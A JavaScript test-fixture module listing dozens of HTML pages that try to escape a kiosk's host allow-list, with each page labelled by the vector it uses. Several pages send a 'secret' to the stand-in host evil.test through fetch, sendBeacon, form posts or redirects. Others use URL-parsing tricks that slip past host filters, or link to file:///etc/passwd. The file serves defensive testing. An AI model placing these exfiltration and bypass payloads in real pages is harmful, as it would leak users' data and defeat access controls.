// The institution's pages for the escape vectors, served at https://www.institution.test/v/<name>
// (and helper frames at /f/<name>). Each page is what a hostile or careless allowed site could contain.
// The tests (tests/e2e/escape.test.mjs) load a page and act on it; the element to click is `#go`.
//
// A page that needs no action fires by itself on load. Every evil URL names its vector in the path,
// so the server log says which vector leaked.

const E = 'https://evil.test';

/** Pages at /v/<name>: { head?, body }. */
export const PAGES = {
  // --- links -----------------------------------------------------------------------------------
  'link-plain': { body: `<a id="go" href="${E}/link-plain">Lien vers evil</a>` },
  'link-blank': { body: `<a id="go" target="_blank" href="${E}/link-blank">Nouvelle fenêtre</a>` },
  'link-noopener': {
    body: `<a id="go" target="_blank" rel="noopener noreferrer" href="${E}/link-noopener">noopener</a>`,
  },
  'window-open': {
    body: `<button id="go" onclick="window.open('${E}/window-open')">window.open</button>`,
  },
  'window-open-noopener': {
    body: `<button id="go" onclick="window.open('${E}/window-open-noopener', '_blank', 'noopener')">noopener</button>`,
  },
  'window-open-then-location': {
    // Opens an allowed empty window, then sends it to evil: the second step is a plain navigation
    // of a window that no tile opened.
    body: `<button id="go" onclick="const w = window.open('about:blank', 'borne2');
      if (w) w.location.href = '${E}/window-open-then-location';">about:blank puis evil</button>`,
  },
  'link-download': { body: `<a id="go" download href="${E}/file.pdf?v=link-download">Télécharger</a>` },
  'link-ping': {
    // The link itself is allowed; the hyperlink-auditing ping goes to evil.
    body: `<a id="go" href="/blank?from=link-ping" ping="${E}/ping">Lien avec ping</a>`,
  },
  'svg-link': {
    body: `<svg width="200" height="60" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
      <a xlink:href="${E}/svg-link"><rect id="go" width="200" height="60" fill="#c00"/></a></svg>`,
  },
  'area-link': {
    // WebDriver cannot click an <area>: it clicks the image, whose whole surface is the area.
    body: `<img src="/pixel.png" width="100" height="100" usemap="#m" alt="carte" id="go">
      <map name="m"><area shape="rect" coords="0,0,100,100" href="${E}/area-link" alt="zone"></map>`,
  },
  'base-href': {
    // A relative link resolved against a <base> on evil.
    head: `<base href="${E}/base/">`,
    body: `<a id="go" href="relative">Lien relatif</a>`,
  },

  // --- redirects -------------------------------------------------------------------------------
  'redirect-301': { body: `<a id="go" href="/redirect?code=301&amp;to=${E}/redirect-301">301</a>` },
  'redirect-302': { body: `<a id="go" href="/redirect?code=302&amp;to=${E}/redirect-302">302</a>` },
  'redirect-303': { body: `<a id="go" href="/redirect?code=303&amp;to=${E}/redirect-303">303</a>` },
  'redirect-307': { body: `<a id="go" href="/redirect?code=307&amp;to=${E}/redirect-307">307</a>` },
  'redirect-308': { body: `<a id="go" href="/redirect?code=308&amp;to=${E}/redirect-308">308</a>` },
  'redirect-307-post': {
    // A form POST answered by a 307 is re-POSTed, body included, to the new place.
    body: `<form method="post" action="/redirect?code=307&amp;to=${E}/redirect-307-post">
      <input name="secret" value="numero-allocataire"><button id="go">Envoyer</button></form>`,
  },
  'redirector-tile': {
    // The allowed redirector's home page sends everyone to evil.
    body: `<a id="go" href="https://redirect.test/">Redirecteur</a>`,
  },
  'redirector-go': {
    body: `<a id="go" href="https://redirect.test/go?to=https://www.evil.test/redirector-go">Redirecteur /go</a>`,
  },
  'idp-chain': {
    // institution -> institution redirect -> idp /authorize (allowed) -> evil (its redirect_uri).
    body: `<a id="go" href="/redirect?code=302&amp;to=${encodeURIComponent(
      `https://idp.test/authorize?redirect_uri=${E}/idp-chain&state=x`,
    )}">Se connecter</a>`,
  },
  'meta-refresh': { head: `<meta http-equiv="refresh" content="0;url=${E}/meta-refresh">`, body: '' },
  'meta-refresh-delayed': { head: `<meta http-equiv="refresh" content="1;url=${E}/meta-refresh-delayed">`, body: '' },
  'meta-refresh-redirect': {
    // Refresh to an allowed page that redirects to evil.
    head: `<meta http-equiv="refresh" content="0;url=/redirect?code=302&amp;to=${E}/meta-refresh-redirect">`,
    body: '',
  },
  'js-assign': { body: `<button id="go" onclick="location.assign('${E}/js-assign')">assign</button>` },
  'js-replace': { body: `<button id="go" onclick="location.replace('${E}/js-replace')">replace</button>` },
  'js-settimeout': {
    body: `<button id="go" onclick="setTimeout(function () { location.href = '${E}/js-settimeout'; }, 200)">setTimeout</button>`,
  },
  'js-onload': {
    // No user gesture at all: the page leaves by itself shortly after load.
    body: `<script>setTimeout(function () { window.location = '${E}/js-onload'; }, 100);</script>`,
  },

  // --- frames ----------------------------------------------------------------------------------
  'iframe-src': { body: `<iframe id="f" src="${E}/iframe-src" width="300" height="100"></iframe>` },
  'iframe-srcdoc-link': {
    body: `<iframe id="f" width="300" height="100" srcdoc="<a id='go' href='${E}/iframe-srcdoc-link'>lien</a>"></iframe>`,
  },
  'iframe-srcdoc-img': {
    body: `<iframe id="f" width="300" height="100" srcdoc="<img src='${E}/iframe-srcdoc-img.png'>"></iframe>`,
  },
  'iframe-nested': { body: `<iframe id="f" src="/f/outer-evil" width="400" height="200"></iframe>` },
  'iframe-nested-link': { body: `<iframe id="f" src="/f/outer-link" width="400" height="200"></iframe>` },
  'frame-target-top': { body: `<iframe id="f" src="/f/top-link" width="300" height="100"></iframe>` },
  'frame-script-top': { body: `<iframe id="f" src="/f/top-script" width="300" height="100"></iframe>` },
  'sandbox-top-navigation': {
    body: `<iframe id="f" sandbox="allow-scripts allow-top-navigation" src="/f/top-script-sandbox" width="300" height="100"></iframe>`,
  },
  'sandbox-fetch': {
    body: `<iframe id="f" sandbox="allow-scripts" width="300" height="100"
      srcdoc="<script>fetch('${E}/sandbox-fetch', {mode: 'no-cors'}).catch(function () {});</script>"></iframe>`,
  },
  'sandbox-popup': {
    body: `<iframe id="f" sandbox="allow-scripts allow-popups" width="300" height="100"
      srcdoc="<button id='go' onclick=&quot;window.open('${E}/sandbox-popup')&quot;>popup</button>"></iframe>`,
  },
  'parent-sets-frame': {
    body: `<iframe id="f" name="cible" src="/f/plain" width="300" height="100"></iframe>
      <button id="go" onclick="window.frames.cible.location = '${E}/parent-sets-frame'">Changer le cadre</button>`,
  },
  'link-target-frame': {
    body: `<iframe id="f" name="cible" src="/f/plain" width="300" height="100"></iframe>
      <a id="go" target="cible" href="${E}/link-target-frame">Dans le cadre</a>`,
  },
  // A frame whose server redirect (or form, answered by a redirect) goes to a refused host: the
  // frame stays empty, the page and what the person typed in it stay (issue 15, item 7).
  'iframe-redirect': {
    body: `<label>Nom <input id="typed" value="Dupont"></label>
      <iframe id="f" src="/redirect?code=302&amp;to=${E}/iframe-redirect" width="300" height="100"></iframe>`,
  },
  'iframe-redirect-late': {
    // The frame is added once the page has finished loading (a widget loaded on demand).
    body: `<label>Nom <input id="typed" value="Dupont"></label>
      <script>window.addEventListener('load', function () { setTimeout(function () {
        var f = document.createElement('iframe'); f.id = 'f';
        f.src = '/redirect?code=307&to=' + encodeURIComponent('${E}/iframe-redirect-late');
        document.body.appendChild(f); }, 200); });</script>`,
  },
  'iframe-form-redirect': {
    body: `<label>Nom <input id="typed" value="Dupont"></label>
      <iframe id="f" src="/f/form-redirect" width="300" height="100"></iframe>`,
  },
  'iframe-form-script': {
    body: `<label>Nom <input id="typed" value="Dupont"></label>
      <iframe id="f" src="/f/form-script" width="300" height="100"></iframe>`,
  },
  'object-data': { body: `<object data="${E}/object-data" type="text/html" width="300" height="100"></object>` },
  'embed-src': { body: `<embed src="${E}/embed-src.pdf" type="application/pdf" width="300" height="100">` },

  // --- forms -----------------------------------------------------------------------------------
  'form-get': {
    body: `<form action="${E}/form-get"><input name="q" value="secret"><button id="go">Envoyer</button></form>`,
  },
  'form-post': {
    body: `<form method="post" action="${E}/form-post"><input name="q" value="secret"><button id="go">Envoyer</button></form>`,
  },
  'form-blank': {
    body: `<form method="post" target="_blank" action="${E}/form-blank"><input name="q" value="secret"><button id="go">Envoyer</button></form>`,
  },
  'formaction': {
    body: `<form method="post" action="/echo"><input name="q" value="secret">
      <button id="go" formaction="${E}/formaction">Envoyer</button></form>`,
  },
  'form-js-submit': {
    body: `<form id="fm" method="post" action="${E}/form-js-submit"><input name="q" value="secret"></form>
      <button id="go" onclick="document.getElementById('fm').submit()">submit()</button>`,
  },
  'form-target-frame': {
    body: `<iframe name="cible" src="/f/plain" width="300" height="100"></iframe>
      <form method="post" target="cible" action="${E}/form-target-frame"><input name="q" value="secret">
      <button id="go">Envoyer</button></form>`,
  },

  // --- subresources and sockets (all fire on load) -----------------------------------------------
  'img': { body: `<img src="${E}/img.png" alt="" onload="done('load')" onerror="done('error')">` },
  'picture-source': {
    body: `<picture><source srcset="${E}/picture-source.png"><img src="/pixel.png" alt="" onload="done('load')" onerror="done('error')"></picture>`,
  },
  'script': { body: `<script src="${E}/script.js" onload="done('load')" onerror="done('error')"></script>` },
  'stylesheet': { head: `<link rel="stylesheet" href="${E}/stylesheet.css">`, body: '' },
  'css-import': { head: `<style>@import url("${E}/css-import.css");</style>`, body: '' },
  'css-background': {
    body: `<div style="width:50px;height:50px;background-image:url('${E}/css-background.png')"></div>`,
  },
  'css-font': {
    head: `<style>@font-face { font-family: "Evil"; src: url("${E}/css-font.woff2") format("woff2"); }
      .evil-font { font-family: "Evil", sans-serif; }</style>`,
    body: '<p class="evil-font">Texte dans une police distante.</p>',
  },
  'fetch': {
    body: `<script>fetch('${E}/fetch', {mode: 'no-cors'}).then(function () { done('load'); }, function () { done('error'); });</script>`,
  },
  'fetch-cors-post': {
    body: `<script>fetch('${E}/fetch-cors-post', {method: 'POST', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({secret: 'numero-allocataire'})}).then(function () { done('load'); }, function () { done('error'); });</script>`,
  },
  'xhr': {
    body: `<script>try { var x = new XMLHttpRequest(); x.onload = function () { done('load'); };
      x.onerror = function () { done('error'); }; x.open('GET', '${E}/xhr'); x.send(); } catch (e) { done('error'); }</script>`,
  },
  'link-prefetch': { head: `<link rel="prefetch" href="${E}/link-prefetch">`, body: '' },
  'link-preload': { head: `<link rel="preload" as="image" href="${E}/link-preload.png">`, body: '' },
  'link-preconnect': {
    // No request is needed to leak: a TCP connection to evil is contact with a refused host.
    head: `<link rel="preconnect" href="${E}"><link rel="dns-prefetch" href="${E}">`,
    body: '',
  },
  'send-beacon': {
    body: `<script>try { done(navigator.sendBeacon('${E}/send-beacon', 'secret') ? 'queued' : 'refused'); } catch (e) { done('error'); }</script>`,
  },
  'event-source': {
    body: `<script>try { var s = new EventSource('${E}/event-source'); s.onopen = function () { done('load'); s.close(); };
      s.onerror = function () { done('error'); s.close(); }; } catch (e) { done('error'); }</script>`,
  },
  'websocket': {
    body: `<script>try { var w = new WebSocket('wss://evil.test/websocket'); w.onopen = function () { done('load'); };
      w.onerror = function () { done('error'); }; } catch (e) { done('error'); }</script>`,
  },
  'websocket-plain': {
    body: `<script>try { var w = new WebSocket('ws://evil.test/websocket-plain'); w.onopen = function () { done('load'); };
      w.onerror = function () { done('error'); }; } catch (e) { done('error'); }</script>`,
  },
  // Its own icon URL: a browser's icon database may already hold evil.test/favicon.ico.
  'favicon': { head: `<link rel="icon" href="${E}/favicon-vector.png">`, body: '' },
  'video': { body: `<video src="${E}/video.webm" autoplay muted width="100" height="50"></video>` },
  'worker-fetch': {
    body: `<script>try { var w = new Worker('/worker-evil.js'); w.onmessage = function (m) { done(m.data); }; } catch (e) { done('error'); }</script>`,
  },
  'service-worker-fetch': {
    // The worker fetches evil while it installs; the test unregisters it afterwards.
    body: `<script>if (navigator.serviceWorker) navigator.serviceWorker.register('/sw-evil.js', {scope: '/sw-evil/'}).catch(function () {});</script>`,
  },
  'blob-page-fetch': {
    // A blob: document created by the (allowed) institution, whose own script calls evil.
    body: `<button id="go" onclick="var b = new Blob(['<h1>blob</h1><scr' + 'ipt>fetch(&quot;${E}/blob-page-fetch&quot;, {mode: &quot;no-cors&quot;}).catch(function () {});</scr' + 'ipt>'], {type: 'text/html'});
      location.href = window.URL.createObjectURL(b);">Ouvrir un blob</button>`,
  },

  // --- URL tricks (links) ----------------------------------------------------------------------
  'url-userinfo': { body: `<a id="go" href="https://www.institution.test@evil.test/url-userinfo">userinfo</a>` },
  'url-userinfo-allowed': {
    body: `<a id="go" href="https://user:secret@www.institution.test/blank?from=url-userinfo-allowed">userinfo sur un hôte permis</a>`,
  },
  'url-lookalike': { body: `<a id="go" href="https://evilinstitution.test/url-lookalike">evilinstitution</a>` },
  'url-suffix': {
    body: `<a id="go" href="https://institution.test.evil.test/url-suffix">institution.test.evil.test</a>`,
  },
  'url-ip-dotted': { body: `<a id="go" href="https://127.0.2.1/url-ip-dotted">127.0.2.1</a>` },
  'url-ip-decimal': { body: `<a id="go" href="https://2130706945/url-ip-decimal">2130706945</a>` },
  'url-ip-hex': { body: `<a id="go" href="https://0x7f000201/url-ip-hex">0x7f000201</a>` },
  'url-ip-octal': { body: `<a id="go" href="https://0177.0.02.01/url-ip-octal">0177.0.02.01</a>` },
  'url-ip-of-allowed': {
    // The institution's own address, not listed as such.
    body: `<a id="go" href="https://127.0.1.1/url-ip-of-allowed">127.0.1.1</a>`,
  },
  'url-port-evil': { body: `<a id="go" href="https://evil.test:8443/url-port-evil">:8443</a>` },
  'url-port-allowed': {
    body: `<a id="go" href="https://www.institution.test:8443/url-port-allowed">institution:8443</a>`,
  },
  'url-percent-dot': { body: `<a id="go" href="https://evil%2Etest/url-percent-dot">evil%2Etest</a>` },
  'url-trailing-dot': { body: `<a id="go" href="https://evil.test./url-trailing-dot">evil.test.</a>` },
  'url-uppercase': { body: `<a id="go" href="HTTPS://EVIL.TEST/url-uppercase">EVIL.TEST</a>` },
  'url-ideographic-dot': { body: `<a id="go" href="https://evil\u3002test/url-ideographic-dot">evil。test</a>` },
  'url-backslash': { body: `<a id="go" href="https:\\\\evil.test\\url-backslash">https:\\\\evil.test</a>` },
  'url-scheme-relative': { body: `<a id="go" href="//evil.test/url-scheme-relative">//evil.test</a>` },
  'url-tab-in-host': { body: `<a id="go" href="https://ev&#9;il.te&#10;st/url-tab-in-host">ev⇥il.test</a>` },
  'url-http-allowed': {
    // An https-only host over plain http.
    body: `<a id="go" href="http://www.institution.test/blank?from=url-http-allowed">http://www.institution.test</a>`,
  },

  // --- schemes ---------------------------------------------------------------------------------
  'scheme-javascript': {
    body: `<a id="go" href="javascript:location.href='${E}/scheme-javascript'">javascript:</a>`,
  },
  'scheme-file': { body: `<a id="go" href="file:///etc/passwd">file:///etc/passwd</a>` },
  'scheme-view-source': { body: `<a id="go" href="view-source:${E}/scheme-view-source">view-source:</a>` },
  'scheme-data': {
    body: `<a id="go" href="data:text/html,${encodeURIComponent(
      `<h1>data</h1><script>fetch('${E}/scheme-data', {mode: 'no-cors'}).catch(function () {});</script>`,
    ).replace(/'/g, '%27')}">data:text/html</a>`,
  },
  'scheme-ftp': { body: `<a id="go" href="ftp://evil.test/scheme-ftp">ftp:</a>` },
  'scheme-about-config': { body: `<a id="go" href="about:config">about:config</a>` },
  'scheme-internal': {
    // A remote page may not send the view to the kiosk's own pages (they run with the shell's rights).
    body: `<a id="go" href="tauri://localhost/index.html">tauri://localhost/index.html</a>`,
  },

  // --- history ---------------------------------------------------------------------------------
  'history-pushstate': {
    body: `<button id="go" onclick="try { history.pushState({}, '', '${E}/history-pushstate'); document.title = 'pushed'; }
      catch (e) { document.title = 'refused: ' + e.name; }">pushState</button>`,
  },
  'history-replacestate': {
    body: `<button id="go" onclick="try { history.replaceState({}, '', '${E}/history-replacestate'); document.title = 'replaced'; }
      catch (e) { document.title = 'refused: ' + e.name; }">replaceState</button>`,
  },
  'history-back-forward': { body: `<a id="go" href="${E}/history-back-forward">Lien vers evil</a>` },

  // --- PDF and downloads -----------------------------------------------------------------------
  'download-redirect': {
    body: `<a id="go" download href="/redirect?code=302&amp;to=${E}/file.pdf%3Fv%3Ddownload-redirect">Télécharger</a>`,
  },
  'download-evil-attachment': { body: `<a id="go" href="${E}/file.pdf?v=download-evil-attachment">Attestation</a>` },

  // --- positive controls -----------------------------------------------------------------------
  'control-img': {
    body: `<img id="img" src="https://www.institution.test/pixel.png?from=control-img" alt="pixel">`,
  },
  'control-fetch': {
    body: `<pre id="out">…</pre><script>fetch('https://docs.institution.test/data.json?from=control-fetch')
      .then(function (r) { return r.json(); })
      .then(function (j) { document.getElementById('out').textContent = JSON.stringify(j); })
      .catch(function (e) { document.getElementById('out').textContent = 'error: ' + e; });</script>`,
  },
  'control-docs-link': { body: `<a id="go" href="https://docs.institution.test/blank?from=control-docs-link">Documentation</a>` },
  'control-plain-http': { body: `<a id="go" href="http://plain.test/page?from=control-plain-http">plain.test en http</a>` },
  'control-idp': {
    body: `<a id="go" href="https://idp.test/authorize?redirect_uri=${encodeURIComponent(
      'https://www.institution.test/callback',
    )}&amp;state=control">Se connecter avec l'IdP</a>`,
  },
  'control-blank-allowed': {
    body: `<a id="go" target="_blank" href="https://www.institution.test/blank?from=control-blank-allowed">Nouvelle fenêtre permise</a>`,
  },
  'control-download': { body: `<a id="go" href="/download?name=controle.pdf">Télécharger l'attestation</a>` },
};

/** Helper documents for frames, at /f/<name>. */
export const FRAMES = {
  plain: { body: '<p>Cadre de l’institution.</p>' },
  'outer-evil': { body: `<iframe src="${E}/iframe-nested" width="300" height="100"></iframe>` },
  'outer-link': { body: `<iframe id="inner" src="/f/inner-link" width="300" height="100"></iframe>` },
  'inner-link': { body: `<a id="go" href="${E}/iframe-nested-link">lien du cadre intérieur</a>` },
  // Submitted by its own script (no focus, no target): the server answers 303 to the refused host.
  'form-redirect': {
    body: `<form id="fr" method="post" action="/redirect?code=303&amp;to=${encodeURIComponent(`${E}/iframe-form-redirect`)}">
      <input name="q" value="x"></form>
      <script>setTimeout(function () { document.getElementById('fr').submit(); }, 150);</script>`,
  },
  // A form of the frame sent straight to the refused host by the frame's script.
  'form-script': {
    body: `<form id="fs" method="post" action="${E}/iframe-form-script"><input name="q" value="x"></form>
      <script>setTimeout(function () { document.getElementById('fs').submit(); }, 150);</script>`,
  },
  'top-link': { body: `<a id="go" target="_top" href="${E}/frame-target-top">Toute la page</a>` },
  'top-script': { body: `<script>setTimeout(function () { top.location.href = '${E}/frame-script-top'; }, 100);</script>` },
  'top-script-sandbox': {
    body: `<script>setTimeout(function () { try { top.location.href = '${E}/sandbox-top-navigation'; } catch (e) {} }, 100);</script>`,
  },
};
